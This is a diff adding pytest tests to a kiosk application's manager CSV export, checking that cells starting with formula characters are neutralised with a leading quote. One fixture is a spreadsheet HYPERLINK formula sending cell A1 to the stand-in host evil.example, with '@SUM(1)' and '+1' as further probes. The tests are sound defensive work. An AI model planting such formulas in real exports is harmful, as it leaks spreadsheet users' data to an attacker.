@@ -157,3 +157,44 @@ def test_manager_dashboard_report_and_csv(client, auth, demo, terminal, accounts
         assert row["outcome"] == "declined" and row["row_hash"] == terminal.stats.head()
         summary = client.get(f"/manager/export/summary.csv?encoding={encoding}").data.decode(codec)
         assert "total,sessions,1" in summary
+
+
+FORMULA_VENUE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize("encoding,codec", [("utf-8", "utf-8-sig"), ("cp932", "cp932")])
+def test_exported_cells_never_start_a_spreadsheet_formula(make_app, encoding, codec):
+    # OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading quote,
+    # so Excel on the manager's PC shows the text instead of running it.
+    from tests.servers.test_staff_and_reports import event
+
+    app = make_app(venue=FORMULA_VENUE)
+    app.config["WTF_CSRF_ENABLED"] = False
+    app.extensions["kiosk.accounts"].create_manager("boss", "correct horse battery")
+    stats = app.extensions["kiosk.terminal"].stats
+    now = dt.datetime.now(ZoneInfo(app.config["KIOSK"].timezone))
+    row = list(event(now.strftime("%Y-%m-%d %H:%M"), venue=FORMULA_VENUE))
+    row[14] = "+1"  # options: a free cell, standing in for a helper's note
+    stats.append([tuple(row), event(now.strftime("%Y-%m-%d %H:%M"), venue="@SUM(1)")])
+    client = app.test_client()
+    AuthActions(client).manager_login()
+    events = client.get(f"/manager/export/events.csv?encoding={encoding}").data.decode(codec)
+    summary = client.get(f"/manager/export/summary.csv?encoding={encoding}&month={now:%Y-%m}").data.decode(codec)
+    cells = [c for r in csv.reader(io.StringIO(events, newline="")) for c in r]
+    cells += [c for r in csv.reader(io.StringIO(summary, newline="")) for c in r]
+    assert "'" + FORMULA_VENUE in cells and "'+1" in cells and "'@SUM(1)" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_a_neutralised_export_still_merges_with_its_chain_intact(tmp_path):
+    from kiosk.statistics.store import StatsStore, merge_exports
+    from tests.servers.test_staff_and_reports import event
+
+    store = StatsStore(tmp_path / "stats.sqlite3")
+    store.append([event("2026-11-05 10:00", venue=FORMULA_VENUE), event("2026-11-05 11:00", venue="'quoted")])
+    path = tmp_path / "events.csv"
+    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
+        store.export_csv(fh)
+    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
+    merged, [(_, check)] = merge_exports([path])
+    assert check.ok and [r["venue"] for r in merged] == [FORMULA_VENUE, "'quoted"]
